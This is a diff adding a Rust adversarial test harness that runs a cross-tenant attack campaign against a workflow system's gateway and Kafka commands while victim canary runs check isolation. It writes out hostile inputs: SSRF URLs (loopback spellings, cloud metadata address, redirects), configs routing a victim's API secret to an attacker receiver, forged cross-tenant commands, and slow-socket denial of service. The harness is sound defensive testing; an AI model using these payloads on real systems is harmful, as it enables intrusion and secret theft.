@@ -1,0 +1,844 @@
+//! The cross-tenant campaign: an attacker tenant that holds every role, its own publisher
+//! key and its own receiver tries every escape from its tenant (issue #57's list) while a
+//! victim tenant keeps running canary runs; the victim is the oracle.
+//!
+//! The attacker publishes its own graphs (signed by its publisher key, scoped to its
+//! tenant) and starts runs of them over Kafka (signed by its service key, every role):
+//!
+//! | kind | what it tries |
+//! |---|---|
+//! | `graph_hijack` | the victim's graph id, signed by the attacker's key, as the attacker's own, as every tenant's and as the victim's |
+//! | `secret_read` | an `llm` node whose `api_key_env` names the victim's secret (or the executor's `HOME`), sent to the attacker's receiver |
+//! | `ssrf` | `http` nodes aimed at the victim's receiver (by every spelling of loopback), the cloud metadata address, and a redirect from the attacker's receiver to the victim's |
+//! | `giant_answer`, `endless_answer` | the attacker's receiver answering 40 MiB, or without end |
+//! | `id_squat` | starts under the ids the victim's starts will derive from their `Idempotency-Key`s |
+//! | `cross_command` | cancel, approve with a budget raise, signal, reconcile, forget a victim's run; the same claiming the victim's tenant |
+//! | `cross_http` | the attacker's tokens on every route of a victim's run |
+//!
+//! plus, once, slow sockets held open on the gateway from other source addresses.
+//!
+//! **The oracle**: every victim canary run (started through the gateway under an
+//! `Idempotency-Key`) succeeds within its bound, on the victim's own graph version; nothing
+//! of the victim's — its secret, its runs' payloads, its graph's body — is ever in a
+//! request the attacker's receiver got or in an answer the attacker read; the victim's
+//! receiver never sees an attacker's request; the watched processes stay up.
+
+use std::collections::BTreeMap;
+use std::net::SocketAddr;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+use rdkafka::config::ClientConfig;
+use rdkafka::message::{Header, OwnedHeaders};
+use rdkafka::producer::{FutureProducer, FutureRecord};
+use serde::Serialize;
+use serde_json::{json, Value};
+use sortie_core::Graph;
+use sortie_wire::records as w;
+use sortie_wire::signing::Signer;
+use sortie_wire::{Codec, Topics};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, TcpSocket, TcpStream};
+
+use crate::mutate::Rng;
+
+/// What the victim's data is marked with, so a leak is found wherever it lands.
+pub const VICTIM_PAYLOAD: &str = "victim-payload-7f3a";
+/// In the victim graph's description.
+pub const VICTIM_GRAPH: &str = "victim-graph-91c2";
+/// In every attacker request, so the victim's receiver can tell one apart.
+pub const ATTACKER_MARK: &str = "attacker-mark-5e0d";
+
+/// The victim tenant.
+#[derive(Debug, Clone)]
+pub struct Victim {
+    pub tenant: String,
+    /// A gateway token of the victim's that may start runs.
+    pub token: String,
+    /// Its graph: global, unpinned in the victim's starts.
+    pub graph: (String, u32),
+    /// The victim's receiver, e.g. `http://127.0.0.1:40123`.
+    pub receiver_url: String,
+    /// The file the victim's receiver records every call in.
+    pub receiver_file: std::path::PathBuf,
+    /// The variable the executor holds the victim's secret in, and its value.
+    pub secret: (String, String),
+}
+
+/// The attacker tenant.
+#[derive(Debug)]
+pub struct Attacker {
+    pub tenant: String,
+    /// Gateway tokens of the attacker's (every role).
+    pub tokens: Vec<String>,
+    /// A service key for the attacker's tenant with every role, and its principal.
+    pub signer: (Signer, String),
+    /// A publisher key for the attacker's tenant, and its principal.
+    pub publisher: (Signer, String),
+    /// Where the attacker's receiver listens (a loopback address of its own, which the
+    /// executor allows for the attacker's tenant only).
+    pub receiver_addr: std::net::IpAddr,
+}
+
+/// What to attack.
+#[derive(Debug)]
+pub struct Target {
+    pub bootstrap: String,
+    pub topics: Topics,
+    pub partitions: u32,
+    pub codec: Arc<Codec>,
+    pub gateway_url: String,
+    pub victim: Victim,
+    pub attacker: Attacker,
+    /// Services to watch: name and pid.
+    pub processes: Vec<(String, u32)>,
+}
+
+/// How big a campaign is.
+#[derive(Debug, Clone)]
+pub struct Plan {
+    pub seed: u64,
+    pub cases: usize,
+    pub canaries: usize,
+    pub canary_bound: Duration,
+    pub settle: Duration,
+    /// Slow sockets held on the gateway meanwhile (from 127.0.0.3 and up).
+    pub slow_sockets: usize,
+}
+
+/// What a campaign found. Clean when `problems` is empty.
+#[derive(Debug, Clone, Default, Serialize)]
+pub struct Report {
+    pub seed: u64,
+    pub cases: usize,
+    pub by_kind: BTreeMap<String, usize>,
+    /// How the attacker's runs and requests were refused: step error codes, command
+    /// answers, HTTP statuses.
+    pub refusals: BTreeMap<String, usize>,
+    /// Requests the attacker's receiver got (none carries anything of the victim's).
+    pub attacker_receiver_requests: usize,
+    pub slow_sockets: usize,
+    pub canaries_started: usize,
+    pub canaries_succeeded: usize,
+    pub canary_latency_ms_p50: u64,
+    pub canary_latency_ms_max: u64,
+    pub seconds: f64,
+    pub problems: Vec<String>,
+}
+
+/// The attacker's graphs, published once: `(id, yaml)`.
+fn attacker_graphs(victim: &Victim, receiver: &str) -> Vec<(String, String)> {
+    let loopback_port = victim
+        .receiver_url
+        .rsplit(':')
+        .next()
+        .unwrap_or("80")
+        .to_owned();
+    let http = |id: &str, url: &str, class: &str| {
+        (
+            id.to_owned(),
+            format!(
+                "id: {id}\nversion: 1\nnodes:\n  - id: call\n    tool: http\n    side_effect: {class}\n    retry: {{max_attempts: 1}}\n    timeout: 5s\n    args: {{mark: {ATTACKER_MARK}, n: $input.n}}\n    config: {{url: \"{url}\"}}\n"
+            ),
+        )
+    };
+    let mut graphs = vec![
+        http(
+            "ssrf-direct",
+            &format!("{}/effects/stolen", victim.receiver_url),
+            "pure",
+        ),
+        http(
+            "ssrf-localhost",
+            &format!("http://localhost:{loopback_port}/effects/stolen"),
+            "pure",
+        ),
+        http(
+            "ssrf-mapped",
+            &format!("http://[::ffff:127.0.0.1]:{loopback_port}/effects/stolen"),
+            "pure",
+        ),
+        http(
+            "ssrf-hex",
+            &format!("http://0x7f000001:{loopback_port}/effects/stolen"),
+            "pure",
+        ),
+        http(
+            "ssrf-metadata",
+            "http://169.254.169.254/latest/meta-data/",
+            "pure",
+        ),
+        http("ssrf-private", "http://10.255.255.1/", "pure"),
+        http(
+            "ssrf-redirect",
+            &format!(
+                "{receiver}/redirect?to={}/effects/stolen",
+                victim.receiver_url
+            ),
+            "pure",
+        ),
+        http("giant", &format!("{receiver}/giant"), "pure"),
+        http("endless", &format!("{receiver}/endless"), "pure"),
+    ];
+    graphs.push((
+        "ssrf-lookup".into(),
+        format!(
+            "id: ssrf-lookup\nversion: 1\nnodes:\n  - id: call\n    tool: http\n    side_effect: reconcilable\n    retry: {{max_attempts: 1}}\n    timeout: 5s\n    args: {{mark: {ATTACKER_MARK}}}\n    config: {{url: \"{receiver}/hang\", status_url: \"{}/status\"}}\n",
+            victim.receiver_url
+        ),
+    ));
+    for (id, env) in [
+        ("steal-secret", victim.secret.0.as_str()),
+        ("steal-home", "HOME"),
+    ] {
+        graphs.push((
+            id.into(),
+            format!(
+                "id: {id}\nversion: 1\nnodes:\n  - id: ask\n    tool: llm\n    side_effect: pure\n    retry: {{max_attempts: 1}}\n    timeout: 5s\n    args: {{messages: [{{role: user, content: {ATTACKER_MARK}}}]}}\n    config: {{base_url: \"{receiver}/v1\", model: m, api_key_env: {env}}}\n"
+            ),
+        ));
+    }
+    graphs
+}
+
+/// Runs the campaign.
+pub async fn run(target: &Target, plan: &Plan) -> anyhow::Result<Report> {
+    let started = Instant::now();
+    let mut report = Report {
+        seed: plan.seed,
+        cases: plan.cases,
+        ..Report::default()
+    };
+    let receiver = Receiver::start(target.attacker.receiver_addr).await?;
+    let receiver_url = format!("http://{}", receiver.addr);
+    let producer: FutureProducer = ClientConfig::new()
+        .set("bootstrap.servers", &target.bootstrap)
+        .set("enable.idempotence", "true")
+        .create()?;
+    let http = reqwest::Client::builder()
+        .timeout(Duration::from_secs(10))
+        .build()?;
+    let answers = Arc::new(Mutex::new(Vec::<String>::new()));
+
+    // The attacker's own graphs, and the hijacks of the victim's id.
+    let mut graphs = Vec::new();
+    for (id, yaml) in attacker_graphs(&target.victim, &receiver_url) {
+        match Graph::parse(&yaml) {
+            Ok(graph) => {
+                publish(target, &producer, graph, Some(&target.attacker.tenant)).await?;
+                graphs.push(id);
+            }
+            // Naming a variable that is no secret (`HOME`) is refused before publication.
+            Err(_) => *report.refusals.entry("graph:invalid".into()).or_default() += 1,
+        }
+    }
+    let hijack = format!(
+        "id: {}\nversion: 1\nnodes:\n  - {{id: a, tool: echo, side_effect: pure, args: {{mark: {ATTACKER_MARK}}}}}\n",
+        target.victim.graph.0
+    );
+    for version in 1..=4u32 {
+        let mut graph = Graph::parse(&hijack.replace("version: 1", &format!("version: {version}")))
+            .map_err(|e| anyhow::anyhow!("hijack graph: {e}"))?;
+        let owners = [
+            Some(target.attacker.tenant.as_str()),
+            None,
+            Some(target.victim.tenant.as_str()),
+        ];
+        for owner in owners {
+            graph.owner = owner.map(str::to_owned);
+            publish(target, &producer, graph.clone(), owner).await?;
+            *report.by_kind.entry("graph_hijack".into()).or_default() += 1;
+        }
+    }
+
+    let slow = slow_sockets(&target.gateway_url, plan.slow_sockets).await;
+    report.slow_sockets = slow.len();
+
+    let mut rng = Rng(plan.seed);
+    let canary_key = |i: usize| format!("canary-{}-{i}", plan.seed % 100_000);
+    let every = (plan.cases / plan.canaries.max(1)).max(1);
+    let mut canaries: Vec<(String, Instant)> = Vec::new();
+    let mut attacker_runs: Vec<String> = Vec::new();
+    for case in 0..plan.cases {
+        if case % every == 0 && canaries.len() < plan.canaries {
+            let i = canaries.len();
+            match start_canary(target, &http, &canary_key(i)).await {
+                Ok(run) => canaries.push((run, Instant::now())),
+                Err(e) => report
+                    .problems
+                    .push(format!("canary {i} did not start: {e}")),
+            }
+        }
+        let kind = match rng.below(6) {
+            0 => "id_squat",
+            1 => "cross_command",
+            2 => "cross_http",
+            _ => "attacker_run",
+        };
+        let kind = match kind {
+            "attacker_run" => {
+                let id = &graphs[rng.below(graphs.len())];
+                let run = format!("atk-{}-{case}", plan.seed % 100_000);
+                let input = json!({"n": rng.below(1_000_000)});
+                start_signed(target, &producer, &run, id, &input).await?;
+                attacker_runs.push(run);
+                if id.starts_with("steal") {
+                    "secret_read"
+                } else if id.starts_with("ssrf") {
+                    "ssrf"
+                } else if id == "giant" {
+                    "giant_answer"
+                } else {
+                    "endless_answer"
+                }
+            }
+            "id_squat" => {
+                // The id a victim's start under a coming key derives.
+                let ahead = canaries.len() + rng.below(4);
+                let run = sortie_core::ids::keyed_run_id(&target.victim.tenant, &canary_key(ahead));
+                start_signed(target, &producer, &run, &graphs[0], &json!({"n": 0})).await?;
+                "id_squat"
+            }
+            "cross_command" => {
+                if let Some((run, _)) = canaries.get(rng.below(canaries.len().max(1))) {
+                    let forged = rng.below(3) == 0;
+                    cross_command(target, &producer, run, rng.below(5), forged).await?;
+                }
+                "cross_command"
+            }
+            _ => {
+                if let Some((run, _)) = canaries.get(rng.below(canaries.len().max(1))) {
+                    let token = &target.attacker.tokens[rng.below(target.attacker.tokens.len())];
+                    cross_http(target, &http, token, run, &answers, &mut report).await;
+                }
+                "cross_http"
+            }
+        };
+        *report.by_kind.entry(kind.into()).or_default() += 1;
+    }
+    while canaries.len() < plan.canaries {
+        let i = canaries.len();
+        match start_canary(target, &http, &canary_key(i)).await {
+            Ok(run) => canaries.push((run, Instant::now())),
+            Err(e) => {
+                report
+                    .problems
+                    .push(format!("canary {i} did not start: {e}"));
+                break;
+            }
+        }
+    }
+
+    // The canaries end within their bound, on the victim's own graph.
+    let deadline = Instant::now() + plan.settle;
+    let mut ended: BTreeMap<String, (String, Instant, Value)> = BTreeMap::new();
+    while ended.len() < canaries.len() && Instant::now() < deadline {
+        for (run, _) in &canaries {
+            if ended.contains_key(run) {
+                continue;
+            }
+            if let Ok(state) = get_run(&target.gateway_url, &http, &target.victim.token, run).await
+            {
+                let status = state["status"].as_str().unwrap_or_default().to_owned();
+                if ["succeeded", "failed", "cancelled"].contains(&status.as_str()) {
+                    ended.insert(run.clone(), (status, Instant::now(), state));
+                }
+            }
+        }
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+    report.canaries_started = canaries.len();
+    let mut latencies = Vec::new();
+    for (run, started) in &canaries {
+        match ended.get(run) {
+            Some((status, at, state)) if status == "succeeded" => {
+                report.canaries_succeeded += 1;
+                let took = at.saturating_duration_since(*started);
+                latencies.push(took.as_millis() as u64);
+                if took > plan.canary_bound {
+                    report.problems.push(format!(
+                        "canary {run} took {took:?}, over the {:?} bound",
+                        plan.canary_bound
+                    ));
+                }
+                let pinned = (
+                    state["graph_id"].as_str().unwrap_or_default(),
+                    state["graph_version"].as_u64().unwrap_or_default(),
+                );
+                let own = (
+                    target.victim.graph.0.as_str(),
+                    u64::from(target.victim.graph.1),
+                );
+                if pinned != own {
+                    report.problems.push(format!(
+                        "canary {run} ran {}@{} instead of the victim's own {}@{}",
+                        pinned.0, pinned.1, own.0, own.1
+                    ));
+                }
+            }
+            Some((status, _, _)) => report.problems.push(format!("canary {run} ended {status}")),
+            None => report.problems.push(format!("canary {run} never ended")),
+        }
+    }
+    latencies.sort_unstable();
+    report.canary_latency_ms_p50 = latencies.get(latencies.len() / 2).copied().unwrap_or(0);
+    report.canary_latency_ms_max = latencies.last().copied().unwrap_or(0);
+
+    // How the attacker's runs ended: every escape refused, and by what.
+    for run in &attacker_runs {
+        let token = &target.attacker.tokens[0];
+        if let Ok(state) = get_run(&target.gateway_url, &http, token, run).await {
+            remember(&answers, &state.to_string());
+            for step in state["steps"].as_array().into_iter().flatten() {
+                // A step's error reads `code: message`.
+                if let Some(code) = step["error"].as_str().and_then(|e| e.split(':').next()) {
+                    *report.refusals.entry(format!("step:{code}")).or_default() += 1;
+                }
+            }
+        }
+    }
+    drop(slow);
+
+    // Nothing of the victim's reached the attacker; nothing of the attacker's the victim.
+    let secrets = [
+        target.victim.secret.1.as_str(),
+        VICTIM_PAYLOAD,
+        VICTIM_GRAPH,
+    ];
+    let requests = receiver.requests();
+    report.attacker_receiver_requests = requests.len();
+    for request in &requests {
+        for secret in secrets {
+            if request.contains(secret) {
+                report.problems.push(format!(
+                    "the attacker's receiver got {secret:?}: {}",
+                    clip(request)
+                ));
+            }
+        }
+        if let Ok(home) = std::env::var("HOME") {
+            if !home.is_empty() && request.contains(&format!("Bearer {home}")) {
+                report
+                    .problems
+                    .push("the attacker's receiver got the executor's HOME".into());
+            }
+        }
+    }
+    for answer in answers.lock().unwrap_or_else(|e| e.into_inner()).iter() {
+        for secret in secrets {
+            if answer.contains(secret) {
+                report.problems.push(format!(
+                    "an answer to the attacker held {secret:?}: {}",
+                    clip(answer)
+                ));
+            }
+        }
+    }
+    let victims_receiver =
+        std::fs::read_to_string(&target.victim.receiver_file).unwrap_or_default();
+    if victims_receiver.contains(ATTACKER_MARK) {
+        report
+            .problems
+            .push("the victim's receiver recorded an attacker's request".into());
+    }
+    for (name, pid) in &target.processes {
+        if !std::path::Path::new(&format!("/proc/{pid}")).exists() {
+            report.problems.push(format!("{name} (pid {pid}) exited"));
+        }
+    }
+    report.seconds = started.elapsed().as_secs_f64();
+    Ok(report)
+}
+
+fn clip(text: &str) -> String {
+    text.chars().take(300).collect()
+}
+
+fn remember(answers: &Mutex<Vec<String>>, text: &str) {
+    answers
+        .lock()
+        .unwrap_or_else(|e| e.into_inner())
+        .push(text.to_owned());
+}
+
+/// A graph record for `graph` owned by `owner`, signed by the attacker's publisher key.
+async fn publish(
+    target: &Target,
+    producer: &FutureProducer,
+    graph: Graph,
+    owner: Option<&str>,
+) -> anyhow::Result<()> {
+    let definition = graph.canonical_json();
+    let record = w::GraphDefinition {
+        graph_id: graph.id.clone(),
+        version: i32::try_from(graph.version)?,
+        tenant: owner.map(str::to_owned),
+        definition_hash: sortie_core::blob::sha256_hex(definition.as_bytes()),
+        definition,
+        published_by: target.attacker.publisher.1.clone(),
+        published_at: sortie_kafka::clock::now_ms(),
+    };
+    let topic = target.topics.graphs();
+    let value = target.codec.encode(&topic, &record).await?;
+    let key = sortie_core::graph::qualified_id(owner, &graph.id) + &format!("@{}", graph.version);
+    send(
+        producer,
+        &topic,
+        &key,
+        None,
+        &value,
+        &target.attacker.publisher.0,
+    )
+    .await
+}
+
+async fn send(
+    producer: &FutureProducer,
+    topic: &str,
+    key: &str,
+    partition: Option<i32>,
+    value: &[u8],
+    signer: &Signer,
+) -> anyhow::Result<()> {
+    let mut headers = OwnedHeaders::new();
+    for (name, bytes) in signer.headers(value) {
+        headers = headers.insert(Header {
+            key: name,
+            value: Some(&bytes),
+        });
+    }
+    let mut record = FutureRecord::to(topic)
+        .key(key)
+        .payload(value)
+        .headers(headers);
+    if let Some(partition) = partition {
+        record = record.partition(partition);
+    }
+    producer
+        .send(record, Duration::from_secs(30))
+        .await
+        .map_err(|(e, _)| anyhow::anyhow!("producing to {topic}: {e}"))?;
+    Ok(())
+}
+
+/// A command of the attacker's (tenant `tenant`), signed by its service key.
+async fn send_command(
+    target: &Target,
+    producer: &FutureProducer,
+    run_id: &str,
+    tenant: &str,
+    body: w::CommandBody,
+) -> anyhow::Result<()> {
+    let (signer, principal) = &target.attacker.signer;
+    let command = w::RunCommand {
+        command_id: format!(
+            "atk-cmd-{}",
+            sortie_core::blob::sha256_hex(format!("{run_id}{:?}", Instant::now()).as_bytes())
+        ),
+        tenant: tenant.to_owned(),
+        run_id: run_id.to_owned(),
+        issuer: w::Issuer {
+            principal: principal.clone(),
+            roles: vec!["approver".into(), "operator".into(), "finance".into()],
+            groups: vec![],
+        },
+        issued_at: sortie_kafka::clock::now_ms(),
+        body,
+    };
+    let topic = target.topics.commands();
+    let value = target.codec.encode(&topic, &command).await?;
+    let partition = sortie_wire::partition_for(run_id.as_bytes(), target.partitions);
+    send(producer, &topic, run_id, Some(partition), &value, signer).await
+}
+
+async fn start_signed(
+    target: &Target,
+    producer: &FutureProducer,
+    run_id: &str,
+    graph_id: &str,
+    input: &Value,
+) -> anyhow::Result<()> {
+    let body = w::CommandBody::StartRun(w::StartRun {
+        graph_id: graph_id.to_owned(),
+        graph_version: None,
+        input: input.to_string(),
+        labels: BTreeMap::new(),
+        budget: None,
+        fork: None,
+        parent: None,
+    });
+    send_command(target, producer, run_id, &target.attacker.tenant, body).await
+}
+
+/// One command of the attacker's about a victim's run: as itself (its own tenant), or
+/// `forged`, claiming the victim's tenant with a key that may not sign for it.
+async fn cross_command(
+    target: &Target,
+    producer: &FutureProducer,
+    run: &str,
+    which: usize,
+    forged: bool,
+) -> anyhow::Result<()> {
+    let body = match which {
+        0 => w::CommandBody::CancelRun(w::CancelRun {
+            reason: Some(ATTACKER_MARK.into()),
+        }),
+        1 => w::CommandBody::ResumeRun(w::ResumeRun {
+            interrupt_id: "int_guess".into(),
+            proposal_hash: "guess".into(),
+            decision: w::Decision::Approve,
+            payload: Some(json!({"raise": {"tokens": 1_000_000_000}}).to_string()),
+            comment: None,
+            edited_args: None,
+            payload_is_input: true,
+        }),
+        2 => w::CommandBody::SignalRun(w::SignalRun {
+            name: "go".into(),
+            signal_id: None,
+            payload: Some(json!({"mark": ATTACKER_MARK}).to_string()),
+        }),
+        3 => w::CommandBody::ReconcileOperation(w::ReconcileOperation {
+            operation_id: "op_guess".into(),
+            outcome: w::ReconcileOutcome::Failed,
+            output: None,
+            error: Some(ATTACKER_MARK.into()),
+        }),
+        _ => w::CommandBody::ForgetRun(w::ForgetRun {
+            reason: Some(ATTACKER_MARK.into()),
+        }),
+    };
+    let tenant = if forged {
+        target.victim.tenant.clone()
+    } else {
+        target.attacker.tenant.clone()
+    };
+    send_command(target, producer, run, &tenant, body).await
+}
+
+/// The attacker's token on every route of a victim's run; each answer is kept for the
+/// oracle, and a success is a problem.
+async fn cross_http(
+    target: &Target,
+    http: &reqwest::Client,
+    token: &str,
+    run: &str,
+    answers: &Mutex<Vec<String>>,
+    report: &mut Report,
+) {
+    let base = format!("{}/v1/runs/{run}", target.gateway_url);
+    let requests = [
+        http.get(&base),
+        http.get(format!("{base}/events?follow=false")),
+        http.get(format!("{base}/conversation")),
+        http.get(format!("{base}/checkpoints")),
+        http.post(format!("{base}/cancel"))
+            .json(&json!({"reason": ATTACKER_MARK})),
+        http.post(format!("{base}/fork"))
+            .json(&json!({"at_version": 1})),
+        http.delete(&base),
+    ];
+    for request in requests {
+        let Ok(answer) = request.bearer_auth(token).send().await else {
+            continue;
+        };
+        let status = answer.status();
+        let text = answer.text().await.unwrap_or_default();
+        *report
+            .refusals
+            .entry(format!("http:{}", status.as_u16()))
+            .or_default() += 1;
+        if status.is_success() {
+            report.problems.push(format!(
+                "the attacker's token got {status} on a victim's run {run}: {}",
+                clip(&text)
+            ));
+        }
+        remember(answers, &text);
+    }
+}
+
+async fn start_canary(
+    target: &Target,
+    http: &reqwest::Client,
+    key: &str,
+) -> anyhow::Result<String> {
+    let answer = http
+        .post(format!("{}/v1/runs", target.gateway_url))
+        .bearer_auth(&target.victim.token)
+        .header("Idempotency-Key", key)
+        .json(&json!({"graph_id": target.victim.graph.0, "input": {"canary": VICTIM_PAYLOAD, "key": key}}))
+        .send()
+        .await?;
+    let status = answer.status();
+    let body: Value = answer.json().await.unwrap_or(Value::Null);
+    if !status.is_success() {
+        anyhow::bail!("{status}: {body}");
+    }
+    let run = body["run_id"].as_str().unwrap_or_default().to_owned();
+    let derived = sortie_core::ids::keyed_run_id(&target.victim.tenant, key);
+    if run != derived {
+        anyhow::bail!("the start under key {key} is run {run}, not {derived}");
+    }
+    Ok(run)
+}
+
+async fn get_run(
+    gateway: &str,
+    http: &reqwest::Client,
+    token: &str,
+    run: &str,
+) -> anyhow::Result<Value> {
+    let answer = http
+        .get(format!("{gateway}/v1/runs/{run}"))
+        .bearer_auth(token)
+        .send()
+        .await?;
+    if !answer.status().is_success() {
+        anyhow::bail!("{}", answer.status());
+    }
+    Ok(answer.json().await?)
+}
+
+/// Sockets that send half a request and wait, from 127.0.0.3 and up.
+async fn slow_sockets(gateway: &str, count: usize) -> Vec<TcpStream> {
+    let Some(addr) = gateway
+        .strip_prefix("http://")
+        .and_then(|a| a.parse::<SocketAddr>().ok())
+    else {
+        return Vec::new();
+    };
+    let mut sockets = Vec::new();
+    for i in 0..count {
+        let source = std::net::Ipv4Addr::new(127, 0, (3 + i / 250) as u8, (1 + i % 250) as u8);
+        let Ok(socket) = TcpSocket::new_v4() else {
+            continue;
+        };
+        if socket.bind(SocketAddr::new(source.into(), 0)).is_err() {
+            continue;
+        }
+        if let Ok(mut stream) = socket.connect(addr).await {
+            let _ = stream
+                .write_all(b"POST /v1/runs HTTP/1.1\r\nHost: x\r\n")
+                .await;
+            sockets.push(stream);
+        }
+    }
+    sockets
+}
+
+/// The attacker's receiver: records every request it is sent and answers by path —
+/// `/giant` 40 MiB of JSON, `/endless` a body without end, `/redirect?to=URL` a 302,
+/// `/hang` nothing at all, anything else a small JSON.
+struct Receiver {
+    addr: SocketAddr,
+    requests: Arc<Mutex<Vec<String>>>,
+    task: tokio::task::JoinHandle<()>,
+}
+
+impl Drop for Receiver {
+    fn drop(&mut self) {
+        self.task.abort();
+    }
+}
+
+impl Receiver {
+    async fn start(ip: std::net::IpAddr) -> anyhow::Result<Receiver> {
+        let listener = TcpListener::bind(SocketAddr::new(ip, 0)).await?;
+        let addr = listener.local_addr()?;
+        let requests = Arc::new(Mutex::new(Vec::new()));
+        let recorded = requests.clone();
+        let task = tokio::spawn(async move {
+            while let Ok((stream, _)) = listener.accept().await {
+                tokio::spawn(serve(stream, recorded.clone()));
+            }
+        });
+        Ok(Receiver {
+            addr,
+            requests,
+            task,
+        })
+    }
+
+    fn requests(&self) -> Vec<String> {
+        self.requests
+            .lock()
+            .unwrap_or_else(|e| e.into_inner())
+            .clone()
+    }
+}
+
+async fn serve(mut stream: TcpStream, requests: Arc<Mutex<Vec<String>>>) {
+    let mut buffer = Vec::new();
+    let mut chunk = [0u8; 8192];
+    // Headers, then as much body as Content-Length says (bounded).
+    let header_end = loop {
+        match tokio::time::timeout(Duration::from_secs(10), stream.read(&mut chunk)).await {
+            Ok(Ok(n)) if n > 0 => buffer.extend_from_slice(&chunk[..n]),
+            _ => return,
+        }
+        if let Some(end) = buffer.windows(4).position(|w| w == b"\r\n\r\n") {
+            break end + 4;
+        }
+        if buffer.len() > 1 << 20 {
+            return;
+        }
+    };
+    let head = String::from_utf8_lossy(&buffer[..header_end]).to_string();
+    let length = head
+        .lines()
+        .find_map(|l| {
+            let (name, value) = l.split_once(':')?;
+            name.eq_ignore_ascii_case("content-length")
+                .then(|| value.trim().parse::<usize>().ok())?
+        })
+        .unwrap_or(0)
+        .min(4 << 20);
+    while buffer.len() < header_end + length {
+        match tokio::time::timeout(Duration::from_secs(10), stream.read(&mut chunk)).await {
+            Ok(Ok(n)) if n > 0 => buffer.extend_from_slice(&chunk[..n]),
+            _ => break,
+        }
+    }
+    requests
+        .lock()
+        .unwrap_or_else(|e| e.into_inner())
+        .push(String::from_utf8_lossy(&buffer).to_string());
+    let path = head.split_whitespace().nth(1).unwrap_or("/").to_owned();
+    if path.starts_with("/hang") {
+        tokio::time::sleep(Duration::from_secs(60)).await;
+        return;
+    }
+    if let Some(to) = path.split_once("to=").map(|(_, to)| to.to_owned()) {
+        let answer = format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
+        let _ = stream.write_all(answer.as_bytes()).await;
+        return;
+    }
+    if path.starts_with("/endless") || path.starts_with("/giant") {
+        let total: u64 = if path.starts_with("/giant") {
+            40 << 20
+        } else {
+            1 << 40
+        };
+        let head = format!("HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {total}\r\nConnection: close\r\n\r\n");
+        if stream.write_all(head.as_bytes()).await.is_err() {
+            return;
+        }
+        let block = vec![b' '; 64 * 1024];
+        let mut sent = 0u64;
+        while sent < total {
+            if stream.write_all(&block).await.is_err() {
+                return;
+            }
+            sent += block.len() as u64;
+        }
+        return;
+    }
+    let body =
+        json!({"ok": true, "choices": [{"message": {"role": "assistant", "content": "ok"}}]})
+            .to_string();
+    let answer = format!(
+        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+        body.len()
+    );
+    let _ = stream.write_all(answer.as_bytes()).await;
+}
